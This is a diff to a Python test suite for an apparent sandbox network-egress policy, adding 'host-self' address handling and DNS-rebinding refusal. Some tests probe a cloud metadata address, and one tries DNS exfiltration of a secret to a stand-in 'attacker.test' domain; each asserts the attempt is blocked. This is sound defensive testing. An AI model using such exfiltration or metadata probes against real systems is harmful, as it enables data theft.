@@ -48,8 +48,12 @@ ZONE = {
     "allowed.test": {"A": [ECHO_IP], "AAAA": ["2001:db8::10"]},
     "other.test": {"A": [OTHER_IP]},
 }
-DNS_RULE = {"dns": {"upstreams": [DNS_IP]}}
-STRICT_DNS_RULE = {"dns": {"upstreams": [DNS_IP], "strict": True}}
+# The test's peers are addresses of this host (on lo): "host-self", which
+# the resolver refuses to hand out (DNS rebinding) unless "rebind" names them,
+# and which allow rules reach only by naming the address or the class.
+REBIND = ["198.18.0.0/24"]
+DNS_RULE = {"dns": {"upstreams": [DNS_IP], "rebind": REBIND}}
+STRICT_DNS_RULE = {"dns": {"upstreams": [DNS_IP], "strict": True, "rebind": REBIND}}
 
 # The program run inside cells: argv[1] is a JSON list of probes, each
 # [kind, args...]; it prints a JSON list of results.  A TCP probe counts as
@@ -504,7 +508,7 @@ def test_host_rule_glob(run, tmp_path, net):
 
 def test_rule_order_first_match_wins(run, tmp_path, net):
     deny_first = {"rules": [{"action": "deny", "tcp": {"to": ECHO_IP, "ports": 8080}},
-                            {"tcp": {"to": "198.18.0.0/24"}}]}
+                            {"tcp": {"to": "host-self"}}]}
     r = probe(run, tmp_path, deny_first, [["tcp", ECHO_IP, 7], ["tcp", ECHO_IP, 8080]])
     assert allowed(r[0]) and denied(r[1]), r
     allow_first = {"rules": list(reversed(deny_first["rules"]))}
@@ -520,7 +524,7 @@ def test_link_local_metadata_denied_with_allow_public(run, tmp_path, net):
     # catch-all allow wins too.  Quick: the relay never tried to connect.
     for policy in ({"rules": [{"tcp": {"to": "public"}}, {"tcp": {"to": ECHO_IP, "ports": 7}}]},
                    {"rules": [{"action": "deny", "ip": {"to": ["link-local", "private", "loopback"]}},
-                              {"ip": {"to": "public"}}, {"tcp": {}}]}):
+                              {"ip": {"to": "public"}}, {"tcp": {"to": ["0.0.0.0/0", "host-self"]}}]}):
         r = probe(run, tmp_path, policy, [["tcp", "169.254.169.254", 80, "http"], ["tcp", ECHO_IP, 7]])
         assert denied(r[0]), (policy, r[0])
         assert allowed(r[1]), (policy, r[1])
@@ -528,13 +532,47 @@ def test_link_local_metadata_denied_with_allow_public(run, tmp_path, net):
 
 def test_class_rules(run, tmp_path, net):
     # 198.18.0.0/15 is "reserved", not "private".
-    r = probe(run, tmp_path, {"rules": [{"action": "deny", "tcp": {"to": "private"}}, {"tcp": {}}]},
+    r = probe(run, tmp_path, {"rules": [{"action": "deny", "tcp": {"to": "private"}}, {"tcp": {"to": "host-self"}}]},
               [["tcp", ECHO_IP, 7], ["tcp", "10.0.0.1", 80], ["tcp", "192.168.0.1", 80]])
     assert allowed(r[0]), r[0]
     assert denied(r[1]) and denied(r[2]), r
-    r = probe(run, tmp_path, {"rules": [{"action": "deny", "tcp": {"to": "reserved"}}, {"tcp": {}}]},
+    r = probe(run, tmp_path, {"rules": [{"action": "deny", "tcp": {"to": "reserved"}}, {"tcp": {"to": "host-self"}}]},
               [["tcp", ECHO_IP, 7]])
     assert denied(r[0]), r[0]
+
+
+def test_host_self_only_when_named(run, tmp_path, net):
+    # ECHO_IP is an address of this host: a catch-all, a class that contains
+    # it ("reserved") or a CIDR around it does not reach it; naming the class
+    # "host-self" or the exact address does.  A deny still matches as usual.
+    probes = [["tcp", ECHO_IP, 7]]
+    for policy in ({"rules": [{"tcp": {}}]}, {"rules": [{"tcp": {"to": "reserved"}}]},
+                   {"rules": [{"ip": {"to": ["198.18.0.0/15", "0.0.0.0/0"]}}]},
+                   {"rules": [{"decide": {"url": "http://127.0.0.1:9/none", "to": "198.18.0.0/24"}}]}):
+        r = probe(run, tmp_path, policy, probes)
+        assert denied(r[0]), (policy, r[0])
+    for policy in ({"rules": [{"tcp": {"to": "host-self"}}]}, {"rules": [{"tcp": {"to": ECHO_IP + "/32"}}]},
+                   {"rules": [{"ip": {"to": [ECHO_IP]}}]}):
+        r = probe(run, tmp_path, policy, probes)
+        assert allowed(r[0]), (policy, r[0])
+    r = probe(run, tmp_path, {"rules": [{"action": "deny", "tcp": {}}, {"tcp": {"to": "host-self"}}]}, probes)
+    assert denied(r[0]), r[0]
+
+
+def test_dns_rebinding_refused(run, tmp_path, net):
+    # allowed.test answers ECHO_IP, an address of this host: without
+    # "rebind" the resolver withholds the answer (REFUSED), pins nothing,
+    # and a host rule for the name cannot reach the host.
+    policy = {"rules": [{"dns": {"upstreams": [DNS_IP]}}, {"host": {"name": "allowed.test"}}]}
+    r = probe(run, tmp_path, policy, [["dns", "allowed.test"], ["dns", "allowed.test", "A", "tcp"],
+                                       ["cmd", "getent", "hosts", "allowed.test"], ["tcp", ECHO_IP, 7]])
+    assert r[0] == {"rcode": "REFUSED", "addrs": []} and r[1] == {"rcode": "REFUSED", "addrs": []}, r
+    assert r[2]["rc"] != 0, r[2]
+    assert denied(r[3]), r[3]
+    # "rebind" naming another range does not accept it either.
+    policy["rules"][0]["dns"]["rebind"] = ["10.0.0.0/8"]
+    r = probe(run, tmp_path, policy, [["dns", "allowed.test"]])
+    assert r[0] == {"rcode": "REFUSED", "addrs": []}, r
 
 
 # ---- what never gets out -------------------------------------------------------------------
@@ -574,7 +612,7 @@ def test_udp_rule_relays_datagrams(run, tmp_path, net):
 
 def test_udp_rule_order_and_ip_rules(run, tmp_path, net):
     deny_first = {"rules": [{"action": "deny", "udp": {"to": ECHO_IP, "ports": 8080}},
-                            {"udp": {"to": "198.18.0.0/24"}}]}
+                            {"udp": {"to": "host-self"}}]}
     r = probe(run, tmp_path, deny_first, [["udp", ECHO_IP, 7], ["udp", ECHO_IP, 8080]])
     assert r[0]["ok"] and not r[1]["ok"], r
     r = probe(run, tmp_path, {"rules": list(reversed(deny_first["rules"]))},
@@ -591,14 +629,14 @@ def test_udp_rules_do_not_bypass_the_resolver(run, tmp_path, net):
     # DNS is redirected before UDP is relayed: allowing port 53 (or all UDP)
     # still sends every query to the cell's resolver.
     secret = uniq("udp-exfil")
-    for policy in ({"rules": [STRICT_DNS_RULE, {"host": {"name": "allowed.test"}}, {"udp": {}}]},
+    for policy in ({"rules": [STRICT_DNS_RULE, {"host": {"name": "allowed.test"}}, {"udp": {"to": "host-self"}}]},
                    {"rules": [STRICT_DNS_RULE, {"host": {"name": "allowed.test"}}, {"udp": {"ports": 53}}]}):
         r = probe(run, tmp_path, policy,
                   [["dns", secret + ".attacker.test"], ["dns", "allowed.test"], ["udp", ECHO_IP, 7]])
         assert r[0] == {"rcode": "NXDOMAIN", "addrs": []}, (policy, r[0])
         assert r[1] == {"rcode": "NOERROR", "addrs": [ECHO_IP]}, (policy, r[1])
     before = len(net.zone.queries())
-    r = probe(run, tmp_path, {"rules": [{"udp": {}}]}, [["dns", "allowed.test"], ["udp", ECHO_IP, 7]])
+    r = probe(run, tmp_path, {"rules": [{"udp": {"to": "host-self"}}]}, [["dns", "allowed.test"], ["udp", ECHO_IP, 7]])
     assert r[0] == {"rcode": "REFUSED", "addrs": []} and r[1]["ok"], r
     assert len(net.zone.queries()) == before
     assert not [n for n in net.zone.names() if secret in n], net.zone.names()
@@ -621,7 +659,7 @@ def test_ipv6_denied(run, tmp_path, net):
 
 
 def test_relay_port_dialed_directly(run, tmp_path, net):
-    r = probe(run, tmp_path, {"rules": [{"tcp": {}}, {"ip": {}}]},
+    r = probe(run, tmp_path, {"rules": [{"tcp": {"to": ["0.0.0.0/0", "host-self"]}}, {"ip": {}}]},
               [["tcp", "127.0.0.1", 15001], ["tcp", "127.0.0.1", 15001, "http"], ["tcp", ECHO_IP, 7]])
     assert denied(r[0]) and denied(r[1]), r
     assert allowed(r[2]), r[2]
